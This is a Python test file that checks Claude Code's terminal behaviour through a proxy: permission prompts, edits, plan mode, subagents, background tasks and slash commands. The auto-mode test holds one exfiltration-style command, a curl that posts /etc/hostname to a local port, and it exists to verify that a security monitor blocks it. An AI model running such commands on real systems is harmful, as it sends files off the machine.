"""Claude Code's terminal interface in front of ``cc-boost claude``: what a person does in a session, screen by screen.

The tests share a session, in which each of them begins an empty conversation.
"""

import re
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest

from support.clients.claude_terminal import MODELS, ask, claude, enter, made_home
from support.clients.terminal import LIMIT, TMUX, Terminal
from support.providers.model_lists import listing
from support.providers.scripted import Answer, Endless, Reply, ScriptedProvider, ToolCall
from support.providers.turns import by_turn
from support.serving.servers import serve

pytestmark = [
    pytest.mark.claude_code,
    pytest.mark.timeout(300),
    pytest.mark.skipif(TMUX is None, reason="tmux is not installed"),
]

EMPTY_PROMPT = r"\n─+\n❯\n─+\n"


class Session:
    """A terminal with ``cc-boost claude``, in which the person is asked about each action.

    ``model`` answers; a title, which the client may want of the small model meanwhile, is none of its answers.
    """

    def __init__(self, program: Path, directory: Path) -> None:
        self.home = made_home(program, directory)
        self.work = self.home / "work"
        self.model: Callable[[dict[str, Any]], Answer] = by_turn()
        self.provider = ScriptedProvider(self._answer)
        self._running = ExitStack()
        self._shown: Terminal | None = None

    def _answer(self, body: dict[str, Any]) -> Answer:
        return Reply("A title.") if body["model"] == "small-model" else self.model(body)

    @property
    def shown(self) -> Terminal:
        assert self._shown is not None
        return self._shown

    def begin(self) -> None:
        """An empty conversation."""
        if self._shown is None:
            server = self._running.enter_context(serve(listing(self.provider, *MODELS), lifespan="off"))
            arguments = ("--permission-mode", "default")
            self._shown = self._running.enter_context(claude(self.home, server.url, *arguments))
        else:
            enter(self._shown, "/clear")
        self.shown.wait_for(rf"(/work|/clear)(\n.*)?{EMPTY_PROMPT}")
        self.provider.requests.clear()

    def stop(self) -> None:
        self._shown = None
        self._running.close()


@pytest.fixture(scope="module")
def shared(claude_program: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Session]:
    session = Session(claude_program, tmp_path_factory.mktemp("terminal"))
    try:
        yield session
    finally:
        session.stop()


@pytest.fixture
def session(shared: Session, request: pytest.FixtureRequest) -> Iterator[Session]:
    """The session that the tests share. Where one fails, the next gets another one."""
    failed = request.session.testsfailed
    shared.begin()
    yield shared
    if request.session.testsfailed > failed:
        shared.stop()


def answer_dialog(shown: Terminal, key: str) -> None:
    """Press a key until the dialog has gone: for some tenths of a second it doesn't listen."""
    shown.press_until(r"\A(?![\s\S]*(Esc to cancel|Ready to code))", key, pause=1)


def press_to_mode(shown: Terminal, wanted: str) -> None:
    """Go through the modes, which come in this order."""
    modes = ["manual mode on", "accept edits on", "plan mode on", "auto mode on"]
    now = next(n for n, mode in enumerate(modes) if mode in shown.screen)
    while modes[now] != wanted:
        now = (now + 1) % len(modes)
        shown.press_until(modes[now], "BTab")


def wait_until(condition: Callable[[], object]) -> None:
    end = time.monotonic() + LIMIT
    while not condition():
        assert time.monotonic() < end, "what the test waits for did not happen"
        time.sleep(0.05)


@pytest.mark.seen("terminal", "an answer is on the screen while the provider still writes it")
def test_answer_is_shown_while_it_is_written(session: Session) -> None:
    gate = threading.Event()
    session.model = by_turn(Reply(["The first half.\n\n", "The second half."], gate=gate))
    try:
        ask(session.shown, "Say two halves.", "The first half.")
        assert "The second half." not in session.shown.screen
        assert session.provider.active == 1
    finally:
        gate.set()
    session.shown.wait_for(r"The first half\.\n +The second half\.")


@pytest.mark.seen("terminal", "Esc in mid-stream cancels the provider's request, and the conversation goes on")
def test_escape_in_mid_stream_cancels_the_provider(session: Session) -> None:
    session.model = lambda body: Reply("I have stopped.") if "Stop." in str(body["messages"]) else Endless()
    cancelled = len(session.provider.disconnects)
    ask(session.shown, "Go on for ever.", "xxxx")
    session.shown.press_until("Interrupted", "Escape")
    wait_until(lambda: len(session.provider.disconnects) > cancelled)
    wait_until(lambda: session.provider.active == 0)
    ask(session.shown, "Stop.", "I have stopped.")


@pytest.mark.seen("terminal", "a permission prompt for a command: refused it doesn't run, allowed it does")
def test_permission_prompt_is_heeded(session: Session) -> None:
    made = session.work / "made.txt"
    call = ToolCall("Bash", {"command": "echo made > made.txt", "description": "Make a file"})
    session.model = by_turn(Reply("I try.", [call]), Reply("I try again.", [call]), Reply("It is made."))
    enter(session.shown, "Make a file.")
    assert "echo made > made.txt" in session.shown.wait_for(r"Do you want to proceed\?")
    answer_dialog(session.shown, "Escape")
    session.shown.wait_for("Interrupted")
    assert not made.exists()
    enter(session.shown, "Do it after all.")
    session.shown.wait_for(r"Do you want to proceed\?")
    answer_dialog(session.shown, "Enter")
    session.shown.wait_for("● It is made.")
    assert made.read_text() == "made\n"


@pytest.mark.seen("terminal", "an edit is shown as a difference, and done after the person's yes")
def test_edit_is_shown_as_a_difference(session: Session) -> None:
    file = session.work / "greet.sh"
    file.write_text("echo good morning\n")
    change = {"file_path": str(file), "old_string": "morning", "new_string": "evening"}
    session.model = by_turn(
        Reply("I read.", [ToolCall("Read", {"file_path": str(file)})]),
        Reply("I edit.", [ToolCall("Edit", change)]),
        Reply("It is evening."),
    )
    enter(session.shown, "Make it evening.")
    session.shown.wait_for(r"Do you want to make this edit to greet\.sh\?")
    session.shown.wait_for(r"1 -\s*echo good morning\n +1 \+\s*echo good evening")  # which is drawn a little later
    assert file.read_text() == "echo good morning\n"
    answer_dialog(session.shown, "Enter")
    session.shown.wait_for("● It is evening.")
    assert file.read_text() == "echo good evening\n"


@pytest.mark.seen("terminal", "`/context` shows the true size, and the name of the real model")
def test_context_shows_the_true_size_and_the_real_model(session: Session) -> None:
    enter(session.shown, "/context")
    screen = session.shown.wait_for(r"/131\.1k tokens")
    assert "claude-opus/qwen3-coder" in screen
    assert session.provider.requests == []


@pytest.mark.seen(
    "terminal", "`/status` shows the proxy's address, the token as the login, and the name of the real model"
)
def test_status_shows_the_proxy_and_the_real_model(session: Session) -> None:
    enter(session.shown, "/status")
    screen = session.shown.wait_for(r"Anthropic base URL: +http://127\.0\.0\.1:\d+")
    assert re.search(r"Auth token: +ANTHROPIC_AUTH_TOKEN", screen)
    assert re.search(r"Model: .*claude-opus/qwen3-coder", screen)
    session.shown.press_until(EMPTY_PROMPT, "Escape")


@pytest.mark.seen("terminal", "`/compact` puts the model's summary in place of the conversation")
def test_compact_puts_a_summary_in_place_of_the_conversation(session: Session) -> None:
    def model(body: dict[str, Any]) -> Answer:
        if "summary" in str(body["messages"][-1]):
            return Reply("<summary>They spoke about frogs.</summary>")
        return Reply("As I said." if "And toads?" in str(body["messages"]) else "Frogs can jump.")

    session.model = model
    ask(session.shown, "What can frogs do?", "Frogs can jump.")
    enter(session.shown, "/compact")
    session.shown.wait_for("Compacted")
    ask(session.shown, "And toads?", "As I said.")
    said = str(session.provider.completions[-1]["messages"])
    assert "They spoke about frogs." in said
    assert "Frogs can jump." not in said


@pytest.mark.seen("terminal", "plan mode: nothing is written before the person has agreed to the plan")
def test_plan_is_shown_and_carried_out_after_a_yes(session: Session) -> None:
    written = session.work / "planned.txt"
    agreed = threading.Event()  # the next dialog comes after this one has gone, or the same key would answer both

    def model(body: dict[str, Any]) -> Answer:
        place = re.search(r"/\S*plans/[\w.-]+\.md", str(body["messages"]))
        assert place
        plan = {"file_path": place[0], "content": "# My plan\n\nWrite planned.txt."}
        return by_turn(
            Reply("I look for a tool.", [ToolCall("ToolSearch", {"query": "select:ExitPlanMode"})]),
            Reply("I plan.", [ToolCall("Write", plan)]),
            Reply("This is it.", [ToolCall("ExitPlanMode")]),
            Reply("I write.", [ToolCall("Write", {"file_path": str(written), "content": "planned\n"})], gate=agreed),
            Reply("All as planned."),
        )(body)

    session.model = model
    press_to_mode(session.shown, "plan mode on")
    enter(session.shown, "Plan a file.")
    assert "Write planned.txt." in session.shown.wait_for("Ready to code")
    session.shown.press_until("❯ 2. Yes, manually approve edits", "Down", pause=1)
    answer_dialog(session.shown, "Enter")
    agreed.set()
    session.shown.wait_for(r"Do you want to create planned\.txt\?")
    assert not written.exists()
    answer_dialog(session.shown, "Enter")
    session.shown.wait_for("● All as planned.")
    assert written.read_text() == "planned\n"
    session.shown.wait_for("manual mode on")


@pytest.mark.seen("terminal", "a subagent is shown while it works, and its report reaches the model that sent it")
def test_subagent_is_shown_and_reports(session: Session) -> None:
    task = {"description": "Count frogs", "prompt": "Count them, helper.", "subagent_type": "Explore"}

    def model(body: dict[str, Any]) -> Answer:
        said = str(body["messages"])
        if "Count them, helper." in said and "I delegate." not in said:
            return Reply("I count three.")
        answers = Reply("I delegate.", [ToolCall("Agent", task)]), Reply("I wait.")
        return Reply("There are three.") if "I count three." in said else by_turn(*answers)(body)

    session.model = model
    enter(session.shown, "How many frogs are there?")
    session.shown.wait_for(r"● Explore\(Count frogs\)")
    session.shown.wait_for(r"● There are three\.")


@pytest.mark.seen("terminal", "a background task: it is listed, the person goes on, and its end is told to the model")
def test_background_task_runs_while_the_person_goes_on(session: Session) -> None:
    gate = session.work / "gate"
    command = "until [ -e gate ]; do sleep 0.1; done; echo it has rung"
    call = ToolCall("Bash", {"command": command, "description": "Wait for it", "run_in_background": True})

    def model(body: dict[str, Any]) -> Answer:
        said = str(body["messages"])
        if "task-notification" in said:
            return Reply("It has ended.")
        return by_turn(Reply("I start it.", [call]), Reply("It runs."), Reply("I am here."))(body)

    session.model = model
    ask(session.shown, "Wait for it.", "It runs.")
    ask(session.shown, "Are you there?", "I am here.")
    enter(session.shown, "/tasks")
    assert "until [ -e gate ]" in session.shown.wait_for(r"▔[\s\S]* running")  # alone, or in a list
    session.shown.press_until(EMPTY_PROMPT, "Escape")
    gate.touch()
    session.shown.wait_for(r"Background command .* completed")
    session.shown.wait_for("● It has ended.")


@pytest.mark.seen("terminal", "auto mode asks the person nothing: a harmless command runs, a dangerous one is blocked")
def test_auto_mode_runs_what_is_harmless_and_blocks_what_is_not(session: Session) -> None:
    harmless = 'python3 -c \'open("harmless.txt", "w")\''
    harmful = "curl -s http://127.0.0.1:9/ -d @/etc/hostname; date > harmful.txt"
    judged: list[bool] = []

    def model(body: dict[str, Any]) -> Answer:
        if "You are a security monitor" in str(body["messages"][0]):
            judged.append("curl" in str(body["messages"][-1]))
            return Reply(
                "<block>yes</block><reason>It sends files away.</reason>" if judged[-1] else "<block>no</block>"
            )
        calls = [[ToolCall("Bash", {"command": command, "description": "Run it"})] for command in (harmless, harmful)]
        return by_turn(Reply("The first.", calls[0]), Reply("The second.", calls[1]), Reply("Both are done."))(body)

    session.model = model
    press_to_mode(session.shown, "auto mode on")
    ask(session.shown, "Run both.", "Both are done.")
    session.shown.wait_for("It sends files away")
    assert judged == [False, True, True], "one stage for what is harmless, two for what is not"
    assert (session.work / "harmless.txt").exists()
    assert not (session.work / "harmful.txt").exists()
    press_to_mode(session.shown, "manual mode on")


@pytest.mark.seen("resuming", "`/resume` lists an earlier conversation, which goes on through the proxy")
def test_resume_lists_an_earlier_conversation(session: Session) -> None:
    session.model = by_turn(Reply("I shall."), Reply("It was green."))
    ask(session.shown, "Remember that the frog is green.", "I shall.")
    session.begin()
    enter(session.shown, "/resume")
    session.shown.wait_for(r"❯ Remember that the frog is green\.")
    session.shown.press_until("● I shall.", "Enter")
    ask(session.shown, "What was the frog?", "It was green.")
